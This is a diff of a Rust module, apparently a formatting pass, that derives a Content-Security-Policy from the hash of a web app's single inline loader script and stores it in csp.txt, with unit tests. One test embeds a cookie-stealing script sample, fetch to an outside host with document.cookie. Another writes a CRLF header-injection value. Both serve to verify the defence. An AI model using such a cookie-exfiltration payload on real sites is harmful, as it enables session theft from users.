@@ -16,18 +16,29 @@ pub const CSP_FILE: &str = "csp.txt";
 pub fn policy_for_shell(html: &str) -> Result<String, String> {
     let scripts: Vec<&str> = inline_scripts(html).collect();
     match scripts[..] {
-        [loader] => Ok(policy::content_security_policy(&base64(&Sha256::digest(loader.as_bytes())))),
-        _ => Err(format!("the page shell has {} inline scripts; it must have exactly one, Trunk's loader", scripts.len())),
+        [loader] => Ok(policy::content_security_policy(&base64(&Sha256::digest(
+            loader.as_bytes(),
+        )))),
+        _ => Err(format!(
+            "the page shell has {} inline scripts; it must have exactly one, Trunk's loader",
+            scripts.len()
+        )),
     }
 }
 
 /// `carefinder-serve csp DIST`: writes DIST/csp.txt from DIST/index.html, the page Trunk wrote.
 pub fn write_policy(dist: &Path) -> Result<String, String> {
     let shell = dist.join("index.html");
-    let html = std::fs::read_to_string(&shell).map_err(|e| format!("{}: cannot be read ({e}); build the app first", shell.display()))?;
+    let html = std::fs::read_to_string(&shell).map_err(|e| {
+        format!(
+            "{}: cannot be read ({e}); build the app first",
+            shell.display()
+        )
+    })?;
     let policy = policy_for_shell(&html).map_err(|e| format!("{}: {e}", shell.display()))?;
     let file = dist.join(CSP_FILE);
-    std::fs::write(&file, format!("{policy}\n")).map_err(|e| format!("{}: cannot be written ({e})", file.display()))?;
+    std::fs::write(&file, format!("{policy}\n"))
+        .map_err(|e| format!("{}: cannot be written ({e})", file.display()))?;
     Ok(policy)
 }
 
@@ -36,12 +47,22 @@ pub fn read_policy(dist: &Path) -> std::io::Result<String> {
     let file = dist.join(CSP_FILE);
     let plain = |kind, why: String| std::io::Error::new(kind, format!("{}: {why}", file.display()));
     let text = std::fs::read_to_string(&file).map_err(|e| {
-        plain(e.kind(), format!("cannot be read ({e}); it is written at build time by `carefinder-serve csp {}`", dist.display()))
+        plain(
+            e.kind(),
+            format!(
+                "cannot be read ({e}); it is written at build time by `carefinder-serve csp {}`",
+                dist.display()
+            ),
+        )
     })?;
     let line = text.strip_suffix('\n').unwrap_or(&text);
-    let usable = line.starts_with("default-src ") && line.bytes().all(|b| b == b' ' || b.is_ascii_graphic());
+    let usable =
+        line.starts_with("default-src ") && line.bytes().all(|b| b == b' ' || b.is_ascii_graphic());
     if !usable {
-        return Err(plain(std::io::ErrorKind::InvalidData, "is not one Content-Security-Policy line; rebuild the app".into()));
+        return Err(plain(
+            std::io::ErrorKind::InvalidData,
+            "is not one Content-Security-Policy line; rebuild the app".into(),
+        ));
     }
     Ok(line.to_string())
 }
@@ -59,24 +80,36 @@ fn inline_scripts(html: &str) -> impl Iterator<Item = &str> {
         if !lower[from..].starts_with(|c: char| c == '>' || c.is_ascii_whitespace() || c == '/') {
             continue;
         }
-        let Some(close) = lower[from..].find('>') else { break };
+        let Some(close) = lower[from..].find('>') else {
+            break;
+        };
         let attributes = &lower[from..from + close];
         let body = from + close + 1;
-        let Some(end) = lower[body..].find("</script") else { break };
+        let Some(end) = lower[body..].find("</script") else {
+            break;
+        };
         if !has_src(attributes) {
             starts.push((body, body + end));
         }
         from = body + end;
     }
-    starts.into_iter().map(move |(start, end)| &html[start..end])
+    starts
+        .into_iter()
+        .map(move |(start, end)| &html[start..end])
 }
 
 /// Whether a start tag's attributes (lower case) include `src`, not just a name ending in it.
 fn has_src(attributes: &str) -> bool {
     attributes.match_indices("src").any(|(at, _)| {
-        let before = attributes[..at].chars().next_back().is_none_or(|c| c.is_ascii_whitespace() || c == '"' || c == '\'');
+        let before = attributes[..at]
+            .chars()
+            .next_back()
+            .is_none_or(|c| c.is_ascii_whitespace() || c == '"' || c == '\'');
         let after = attributes[at + 3..].trim_start();
-        before && (after.is_empty() || after.starts_with('=') || after.starts_with(|c: char| c.is_ascii_whitespace() || c == '/'))
+        before
+            && (after.is_empty()
+                || after.starts_with('=')
+                || after.starts_with(|c: char| c.is_ascii_whitespace() || c == '/'))
     })
 }
 
@@ -84,7 +117,10 @@ fn base64(bytes: &[u8]) -> String {
     const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
     for chunk in bytes.chunks(3) {
-        let n = chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
         for i in 0..4 {
             if i <= chunk.len() {
                 out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
@@ -110,7 +146,15 @@ mod tests {
 
     #[test]
     fn base64_matches_the_rfc_4648_examples() {
-        for (plain, encoded) in [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foob", "Zm9vYg=="), ("fooba", "Zm9vYmE="), ("foobar", "Zm9vYmFy")] {
+        for (plain, encoded) in [
+            ("", ""),
+            ("f", "Zg=="),
+            ("fo", "Zm8="),
+            ("foo", "Zm9v"),
+            ("foob", "Zm9vYg=="),
+            ("fooba", "Zm9vYmE="),
+            ("foobar", "Zm9vYmFy"),
+        ] {
             assert_eq!(base64(plain.as_bytes()), encoded);
         }
     }
@@ -126,10 +170,16 @@ mod tests {
     fn a_script_injected_into_a_page_is_not_allowed_by_the_header() {
         let csp = policy_for_shell(&shell()).unwrap();
         let injected = "fetch('https://example.org/?'+document.cookie)";
-        let page = shell().replace("<body>", &format!("<body><p>Rose</p><SCRIPT>{injected}</SCRIPT>"));
+        let page = shell().replace(
+            "<body>",
+            &format!("<body><p>Rose</p><SCRIPT>{injected}</SCRIPT>"),
+        );
         // The header names one hash, the loader's; the injected script's hash is not it.
         let injected_hash = format!("'sha256-{}'", base64(&Sha256::digest(injected.as_bytes())));
-        assert!(!csp.contains(&injected_hash) && csp.contains(LOADER_HASH), "{csp}");
+        assert!(
+            !csp.contains(&injected_hash) && csp.contains(LOADER_HASH),
+            "{csp}"
+        );
         // And a shell with a second inline script is refused at build time.
         let err = policy_for_shell(&page).unwrap_err();
         assert!(err.contains("has 2 inline scripts"), "{err}");
@@ -139,7 +189,10 @@ mod tests {
     fn only_script_elements_without_src_count() {
         let html = "<scripts>no</scripts><script-x>no</script-x><script data-src=\"a\">one</script><script\nsrc='/b.js'></script><script defer src=/c.js></script>";
         assert_eq!(inline_scripts(html).collect::<Vec<_>>(), ["one"]);
-        assert_eq!(policy_for_shell("<p>no scripts</p>").unwrap_err(), "the page shell has 0 inline scripts; it must have exactly one, Trunk's loader");
+        assert_eq!(
+            policy_for_shell("<p>no scripts</p>").unwrap_err(),
+            "the page shell has 0 inline scripts; it must have exactly one, Trunk's loader"
+        );
     }
 
     #[test]
@@ -148,12 +201,21 @@ mod tests {
         std::fs::create_dir_all(&dir).unwrap();
         let _ = std::fs::remove_file(dir.join(CSP_FILE));
         let missing = read_policy(&dir).unwrap_err().to_string();
-        assert!(missing.contains("csp.txt: cannot be read") && missing.contains("carefinder-serve csp"), "{missing}");
+        assert!(
+            missing.contains("csp.txt: cannot be read") && missing.contains("carefinder-serve csp"),
+            "{missing}"
+        );
         std::fs::write(dir.join("index.html"), shell()).unwrap();
         let written = write_policy(&dir).unwrap();
-        assert_eq!(std::fs::read_to_string(dir.join(CSP_FILE)).unwrap(), format!("{written}\n"));
+        assert_eq!(
+            std::fs::read_to_string(dir.join(CSP_FILE)).unwrap(),
+            format!("{written}\n")
+        );
         assert_eq!(read_policy(&dir).unwrap(), written);
         std::fs::write(dir.join(CSP_FILE), "default-src 'self'\r\nX-Injected: 1\n").unwrap();
-        assert!(read_policy(&dir).unwrap_err().to_string().contains("is not one Content-Security-Policy line"));
+        assert!(read_policy(&dir)
+            .unwrap_err()
+            .to_string()
+            .contains("is not one Content-Security-Policy line"));
     }
 }
